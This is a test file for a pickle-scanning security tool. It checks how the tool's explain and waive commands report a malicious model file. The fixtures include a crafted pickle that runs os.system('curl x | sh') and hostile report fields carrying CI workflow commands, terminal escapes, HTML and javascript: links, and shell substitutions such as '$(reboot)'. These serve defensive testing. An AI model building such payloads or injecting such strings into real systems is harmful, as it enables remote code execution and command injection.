import { spawnSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gateCommand } from "../../../src/app/command-gate";
import { explainCommand } from "../../../src/app/explain/command-explain";
import { PAGES } from "../../../src/app/explain/rule-pages";
import { waiveCommand } from "../../../src/app/policy/command-waive";
import type { RunReport } from "../../../src/core/report";
import type { Explanation } from "../../../src/report/explanation";
import { RULES } from "../../../src/rules";
import { pickle } from "../../support/pickle-builder";
import { removeRepos, TestRepo } from "../../support/repo";
import { runCommand } from "../../support/run-command";

afterAll(removeRepos);

const evil = pickle(4).global("os", "system").string("curl x | sh").tuple1().reduce().stop();
const net = pickle(4).global("mylib.nets", "Net").stop();

function tree(files: Record<string, Uint8Array | string> = { "models/evil.pkl": evil, "models/net.pkl": net }) {
  return TestRepo.create().write(files);
}

const explain = async (repo: TestRepo, ...argv: string[]): Promise<string> =>
  (await runCommand(explainCommand, ["explain", ...argv, "--audit", "false"], repo.root)).stdout;

async function report(repo: TestRepo): Promise<RunReport> {
  const { stdout } = await runCommand(gateCommand, ["gate", "--audit", "false", "--format", "json"], repo.root);
  writeFileSync(join(repo.root, "report.json"), stdout);
  return JSON.parse(stdout) as RunReport;
}

const idOf = ({ findings }: RunReport, rule: string): string => findings.find((each) => each.rule === rule)!.id;

test("a finding of the tree: what was seen, why, what to do, and how it is let pass", async () => {
  const repo = tree();
  const id = idOf(await report(repo), "MA-PKL-001");
  const text = await explain(repo, id);
  for (const words of [
    ...[`finding ${id}`, "models/evil.pkl @ 0x", "os.system('curl x | sh')", "It stops the gate."],
    ...["\nWhat to do\n  Do not load this file", "\nWhy it matters\n  Loading a pickle runs", "MITRE ATLAS"],
    ...[`    model-assay waive ${id} --reason "TEXT" --until YYYY-MM-DD\n`, "/docs/rules/MA-PKL-001.md\n"],
  ])
    expect(text).toContain(words);
  expect(text).not.toContain("Example, as reported");
  expect(text).toMatch(/LLM Applications 2025: LLM\d/);
  expect(await explain(repo, id.slice(0, 6))).toBe(text);
});

test("the command that it shows is the one that works", async () => {
  const repo = tree();
  const found = await report(repo);
  const id = idOf(found, "MA-PKL-002");
  const { letPass } = JSON.parse(await explain(repo, id, "--report", "report.json", "--format", "json")) as Explanation;
  const [allow, waive] = letPass as readonly { command: string }[];
  expect(allow!.command).toBe('allow mylib.nets.Net --reason "TEXT"');
  expect(waive!.command).toBe(`waive ${id} --reason "TEXT" --until YYYY-MM-DD --report report.json`);
  const argv = waive!.command.replace("YYYY-MM-DD", "2999-01-31").replaceAll('"', "").split(" ");
  expect((await runCommand(waiveCommand, argv, repo.root)).code).toBe(0);
  const waived = await explain(repo, id);
  expect(waived).toContain("It is waived by waiver until 2999-01-31: TEXT.");
  expect(waived).toContain("is waived already");
});

test("a rule, by id in any case or by name, has its whole page", async () => {
  const repo = tree({});
  const text = await explain(repo, "ma-pkl-001");
  expect(text).toContain(
    "Example, as reported\n    critical MA-PKL-001 dangerous-global\n      what    calls os.system, ",
  );
  expect(text).not.toContain("Let it pass");
  expect(await explain(repo, "dangerous-global")).toBe(text);
  const markdown = await explain(repo, "MA-PKL-001", "--format", "markdown");
  expect(markdown).toContain("### Why it matters");
  expect(markdown).toMatch(/\(https:\/\/github\.com\/[\w/-]+\/docs\/rules\/MA-PKL-002\.md\)/);
  expect(markdown).not.toMatch(/\]\((?!https:)/);
});

test.each(RULES.map(({ id }) => id))("%s reads as plain text", async (id) => {
  const { stdout: text } = await runCommand(explainCommand, ["explain", id], __dirname);
  expect(text).toContain("\nWhy it matters\n");
  expect(text).not.toMatch(/\]\(|```|<!--|^\|[-| ]+\|$/m);
});

test("the build's pages are these", () => {
  const script = `import { rulePages } from "./tools/build/rule-pages.mjs"; console.log(JSON.stringify(rulePages(process.cwd())))`;
  const run = spawnSync(process.execPath, ["--input-type=module", "-e", script], {
    cwd: join(__dirname, "../../.."),
    encoding: "utf8",
    maxBuffer: 2 ** 24,
  });
  expect(JSON.parse(run.stdout)).toEqual({ PAGES });
  expect(Object.keys(PAGES)).toEqual(expect.arrayContaining(RULES.map(({ id }) => id)));
});

test.each<[string[], RegExp]>([
  [[], /^explain takes one finding or one rule/],
  [["a", "b"], /^explain takes one finding or one rule/],
  [["dangerous-globl"], /Did you mean MA-PKL-001 \(dangerous-global\)\?/],
  [["MA-XXX-999"], /^"MA-XXX-999" is no rule and no id of a finding/],
  [["0000", "--report", "report.json"], /^there is no finding 0000 among 2/],
  [["0000", "--report", "none.json"], /^report: there is no none\.json/],
  [["MA-PKL-001", "--format", "xml"], /^format: "xml" is not one of text, json, markdown/],
])("%j is refused with what to type", async (argv, words) => {
  const repo = tree();
  await report(repo);
  await expect(explain(repo, ...argv)).rejects.toThrow(words);
});

describe("a report that somebody made", () => {
  const HOSTILE = "x\n::error::owned\u001b[31m\u202e ##[group] @octocat <img src=x> `c` [l](javascript:1)";
  const forge = (repo: TestRepo, changes: object): void => {
    const made = JSON.parse(readFileSync(join(repo.root, "report.json"), "utf8")) as RunReport;
    const findings = [{ ...made.findings[0], id: "0123456789ab", ...changes }];
    writeFileSync(join(repo.root, "report.json"), JSON.stringify({ ...made, findings }));
  };

  test.each(["text", "json", "markdown"])("is shown as text, as %s", async (format) => {
    const repo = tree();
    await report(repo);
    forge(repo, {
      ...{
        message: HOSTILE,
        evidence: HOSTILE,
        remedy: HOSTILE,
        waived: { by: HOSTILE, reason: HOSTILE, until: HOSTILE },
      },
      location: { path: HOSTILE, inside: [HOSTILE, 1], offset: "x" },
    });
    const out = await explain(repo, "0123456789ab", "--report", "report.json", "--format", format);
    for (const line of out.split("\n")) expect(line).not.toMatch(/[\p{Cc}\p{Cf}]|^\s*::|##\[/u);
    // In code GitHub looks for nothing; HTML blocks end at blank lines, and no text of the input has one.
    const prose = out.replace(/<(pre|code)>.*?<\/\1>/g, "");
    if (format === "markdown") expect(prose).not.toMatch(/<img|@octocat|\]\(javascript/);
  });

  test("is not believed where it says odd things", async () => {
    const repo = tree();
    await report(repo);
    forge(repo, { severity: "worst" });
    await expect(explain(repo, "0123456789ab", "--report", "report.json")).rejects.toThrow(
      /has no message or no severity/,
    );
    forge(repo, { severity: "high", rule: "MA-ZZZ-001\n::error::x" });
    expect(await explain(repo, "0123456789ab", "--report", "report.json")).toContain("does not know the rule");
  });

  test("gives no command for an id that is none of ours, and quotes its own name", async () => {
    const repo = tree();
    const id = idOf(await report(repo), "MA-PKL-001");
    writeFileSync(join(repo.root, "a'b $(x).json"), readFileSync(join(repo.root, "report.json")));
    expect(await explain(repo, id, "--report", "a'b $(x).json")).toContain(`--report 'a'\\''b $(x).json'`);
    forge(repo, { id: "0123456789ab$(reboot)" });
    expect(await explain(repo, "0123456789", "--report", "report.json")).not.toContain("model-assay waive");
  });
});
